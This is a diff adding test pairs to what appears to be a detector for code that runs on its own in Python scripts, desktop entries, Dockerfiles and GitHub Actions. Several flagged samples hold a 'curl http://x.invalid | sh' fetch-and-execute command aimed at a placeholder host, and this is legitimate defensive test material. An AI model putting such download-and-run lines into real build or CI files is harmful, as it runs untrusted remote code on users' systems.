@@ -47,6 +47,21 @@ PAIRS = [
         '{"initializeCommand": "./.devcontainer/a.sh"}',
         '{"initializeCommand": "mkdir -p ${localEnv:HOME}/.cache/huggingface"}',
     ),
+    # Python 2 is Python.
+    (
+        "train.py",
+        "import os\nprint 'a'\nos.system('curl http://x.invalid/a | sh')\n",
+        "import base64, sys\ntry:\n\tprint >>sys.stderr, base64.b64encode('a'), 0755\nexcept OSError, e:\n        print `e`\n",
+    ),
+    # A menu starts what a package has put where programs lie.
+    ("a.desktop", "[Desktop Entry]\nExec=sh -c 'x'\n", "[Desktop Entry]\nExec=/usr/bin/chromium %U\nTryExec=chromium\n"),
+    # An image is given what its users read, and a step of Python is no value.
+    ("Dockerfile", "RUN curl http://x.invalid | sh\n", "FROM a\nRUN echo 'source /etc/profile' >> ~/.bashrc\n"),
+    (
+        "action.yml",
+        "steps:\n  - shell: python\n    run: |\n      import os\n      os.system('curl http://x.invalid | sh')\n",
+        "steps:\n  - shell: python\n    run: |\n      from subprocess import run\n      run(['git', 'tag'])\n",
+    ),
     # What stands in comments starts nothing.
     ("exec.js", "exec('some_program', {async: true});\n", "//@ exec('some_program', {async: true});\nmodule.exports = 1;\n"),
     # An arrow of JavaScript writes into no file.
